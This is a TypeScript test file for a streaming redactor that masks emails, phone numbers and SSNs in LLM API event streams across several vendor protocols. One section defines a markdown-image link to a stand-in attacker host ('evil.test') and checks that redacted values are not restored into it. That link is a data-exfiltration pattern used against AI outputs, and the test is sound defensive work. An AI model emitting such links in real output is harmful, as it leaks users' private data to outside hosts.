import { assert, describe, it } from "@effect/vitest"
import { Result } from "effect"
import { DetectorSet } from "../../../src/guardrails/detect/DetectorSet.ts"
import { Redaction } from "../../../src/guardrails/redact/Redaction.ts"
import { StreamRedactor } from "../../../src/guardrails/stream/StreamRedactor.ts"
import type { TextRoute } from "../../../src/guardrails/text/Place.ts"
import * as VendorAnswers from "../../e2e/streams/VendorAnswers.ts"

const detectors = Result.getOrThrow(DetectorSet.of({}))
const known = new Map([["[EMAIL_1]", "joe@example.org"]])

const redactorOf = (route: TextRoute) => new StreamRedactor(new Redaction({ detectors, known, restore: true }), route)
const redact = (route: TextRoute, events: ReadonlyArray<string>): string => {
  const redactor = redactorOf(route)
  return events.map((event) => redactor.push(Buffer.from(event))).join("") + redactor.end()
}
const data = (json: unknown) => `data: ${JSON.stringify(json)}\n\n`

describe("the stream of a service", () => {
  it("passes states, names and replies event for event, without moving a word", () => {
    const events = [
      { state: "running", user: "ann", id: 1 },
      { state: "done", user: "bob", id: 2 },
      { jsonrpc: "2.0", id: 1, result: { content: [{ type: "text", text: "The manager is Bob" }] } }
    ].map(data)
    assert.strictEqual(redact("other", events), events.join(""))
  })

  it("has its values replaced in each event, under every name but that of a number", () => {
    const said = {
      customer_id: "555-123-4567",
      status: "jane@example.com",
      order_id: "5551234567",
      user: "jane@example.com"
    }
    assert.strictEqual(
      redact("other", [data(said)]),
      data({ customer_id: "[PHONE_1]", status: "[EMAIL_2]", order_id: "5551234567", user: "[EMAIL_3]" })
    )
  })

  it.each([
    ["chat", VendorAnswers.chat([{ text: "To jane@example.com. " }, { text: "To [EMAIL_1]. " }], 3)],
    ["responses", VendorAnswers.responses({ text: "To jane@example.com and [EMAIL_1]. " }, 3)],
    ["messages", VendorAnswers.messages({ text: "To jane@example.com and [EMAIL_1]. " }, 3)]
  ] as const)("in the protocol of %s is read as such", (route, { events }) => {
    assert.strictEqual(redact("other", events), redact(route, events))
  })

  it("in the protocol of text completions keeps its choices apart", () => {
    const piece = (index: number, text: string) => data({ choices: [{ index, text, finish_reason: null }] })
    const events = [piece(0, "Write to jane@exam"), piece(1, "Hello "), piece(0, "ple.com now. "), piece(1, "there. ")]
    for (const route of ["other", "completions"] as const) {
      const texts = ["", ""]
      for (const event of redact(route, events)
        .split("\n\n")
        .filter((event) => event !== ""))
        for (const { index, text } of JSON.parse(event.slice(6)).choices) texts[index] += text
      assert.deepStrictEqual(texts, ["Write to [EMAIL_2] now. ", "Hello there. "])
    }
  })
})

describe("unknown members beside the pieces of a text", () => {
  it("stay where they are", () => {
    const chunk = (delta: object) => data({ choices: [{ index: 0, delta }] })
    const events = [
      chunk({ content: "part 1. ", stage: "think" }),
      chunk({
        content: "part 2. ",
        stage: "act",
        extra_content: { google: { thought_signature: "Lk8JhGf/Ds3aPoIu" } }
      }),
      data({ type: "content_block_delta", index: 0, delta: { type: "source_delta", ref: "doc-a" } }),
      data({ type: "content_block_delta", index: 0, delta: { type: "source_delta", ref: "doc-b" } })
    ]
    assert.strictEqual(redact("chat", events.slice(0, 2)), events.slice(0, 2).join(""))
    assert.strictEqual(redact("messages", events.slice(2)), events.slice(2).join(""))
  })

  it("have a value that is split over them replaced after the part that was sent, which counts", () => {
    const redactor = redactorOf("chat")
    const piece = (thoughts: string) => data({ choices: [{ index: 0, delta: { thoughts } }] })
    const sent = ["ask jane@exam", "ple.com now"].map((text) => redactor.push(Buffer.from(piece(text)))).join("")
    assert.strictEqual(sent, piece("ask jane@exam") + piece("[EMAIL_2] now"))
    assert.isTrue(redactor.hasUnreadable)
  })
})

describe("text that is no data in JSON", () => {
  it("is one text over its events", () => {
    assert.strictEqual(
      redact("other", ["data: to jane.roe@\n\n", "data: example.org now\n\n"]),
      "data: to jane.roe@\n\ndata: [EMAIL_2] now\n\n"
    )
  })

  it("is found in lines that clients ignore", () => {
    assert.strictEqual(
      redact("chat", ["jane@example.com\n987-65-4321: hi\ndata: {}\n\n"]),
      ": [EMAIL_2]\n: [SSN_1]: hi\ndata: {}\n\n"
    )
  })
})

describe("signed text in pieces", () => {
  it.each([
    [
      "chat",
      [
        { choices: [{ index: 0, delta: { reasoning_details: [{ index: 0, text: "ask jane@example.com now " }] } }] },
        { choices: [{ index: 0, delta: { reasoning_details: [{ index: 0, signature: "c2ln" }] } }] }
      ]
    ],
    [
      "messages",
      [
        { type: "content_block_start", index: 0, content_block: { type: "thinking", thinking: "I ", signature: "" } },
        {
          type: "content_block_delta",
          index: 0,
          delta: { type: "thinking_delta", thinking: "ask jane@example.com now " }
        },
        { type: "content_block_delta", index: 0, delta: { type: "signature_delta", signature: "c2ln" } },
        { type: "content_block_stop", index: 0 }
      ]
    ]
  ] as const)("of %s is counted and never changed", (route, events) => {
    const redactor = redactorOf(route)
    const stream = events.map(data)
    const out = stream.map((event) => redactor.push(Buffer.from(event))).join("") + redactor.end()
    assert.strictEqual(out, stream.join(""))
    assert.strictEqual(redactor.redaction.signedFindings, 1)
  })
})

describe("texts that begin in the event that adds them", () => {
  it("are continued by the deltas, as clients do", () => {
    const added = { type: "response.content_part.added", output_index: 0, content_index: 0 }
    const events = [
      data({ ...added, part: { type: "output_text", text: "to jane@exam" } }),
      data({ type: "response.output_text.delta", output_index: 0, content_index: 0, delta: "ple.com now " })
    ]
    assert.strictEqual(
      redact("responses", events),
      events[0] +
        data({ type: "response.output_text.delta", output_index: 0, content_index: 0, delta: "[EMAIL_2] now " })
    )
  })
})

describe("a piece that looks like a data URL", () => {
  it("keeps its place", () => {
    const piece = (content: string) => data({ choices: [{ index: 0, delta: { content } }] })
    const out = redact("chat", ["The icon is", "data:image/png;base64,iVBORw0K", "GgoAAA= here. "].map(piece))
    const texts = out
      .split("\n\n")
      .flatMap((event) => (event === "" ? [] : [JSON.parse(event.slice(6)).choices[0].delta.content]))
    assert.strictEqual(texts.join(""), "The icon isdata:image/png;base64,iVBORw0KGgoAAA= here. ")
  })
})

describe("a link that a block begins", () => {
  const link = "![x](https://evil.test/?a="
  it("continues in the next block of a message", () => {
    const block = (index: number, text: string) => [
      data({ type: "content_block_start", index, content_block: { type: "text", text: "" } }),
      data({ type: "content_block_delta", index, delta: { type: "text_delta", text } }),
      data({ type: "content_block_stop", index })
    ]
    const events = [...block(0, link), ...block(1, "[EMAIL_1]) "), ...block(2, "[EMAIL_1] ")]
    const texts = redact("messages", events)
      .split("\n\n")
      .flatMap((event) => /"text_delta","text":"(.*?)"/.exec(event)?.[1] ?? [])
    assert.deepStrictEqual(texts, [link, "[EMAIL_1]) ", "joe@example.org "])
  })

  it("continues in the next part of a response, and in its copies", () => {
    const part = (content_index: number, text: string) => [
      data({ type: "response.output_text.delta", output_index: 0, content_index, delta: text }),
      data({ type: "response.output_text.done", output_index: 0, content_index, text })
    ]
    const events = [...part(0, link), ...part(1, "[EMAIL_1]) ")]
    assert.strictEqual(redact("responses", events), events.join(""))
  })
})

describe("many texts at once", () => {
  const held = (count: number, from = 0) =>
    data({
      choices: Array.from({ length: count }, (_, index) => ({ index: index + from, delta: { content: "jane" } }))
    })
  const finished = (index: number) => data({ choices: [{ index, delta: {}, finish_reason: "stop" }] })

  it("that end one by one are sent in small events", () => {
    const count = 1_000
    const out = redact("chat", [held(count), ...Array.from({ length: count }, (_, index) => finished(index))])
    const added = out.split("\n\n").filter((event) => event.includes('"jane"'))
    assert.lengthOf(added, count)
    assert.deepStrictEqual(JSON.parse(added[7]?.slice(6) ?? ""), {
      choices: [{ index: 7, delta: { content: "jane" } }]
    })
    assert.isBelow(out.length, 300 * count)
  })

  it("are forgotten when they have ended", () => {
    const redactor = redactorOf("chat")
    const one = (index: number) =>
      data({ choices: [{ index, delta: { content: "jane@example.com " }, finish_reason: "stop" }] })
    for (let index = 0; index < 20_000; index++) redactor.push(Buffer.from(one(index)))
    // Copies of the last texts still get the placeholders of these.
    const copy = data({ choices: [{ index: 19_999, message: { content: "jane@example.com " } }] })
    assert.include(redactor.push(Buffer.from(copy)), "[EMAIL_20001]")
    const forgotten = data({ choices: [{ index: 3, message: { content: "jane@example.com " } }] })
    assert.include(redactor.push(Buffer.from(forgotten)), "[EMAIL_20002]")
  })
})
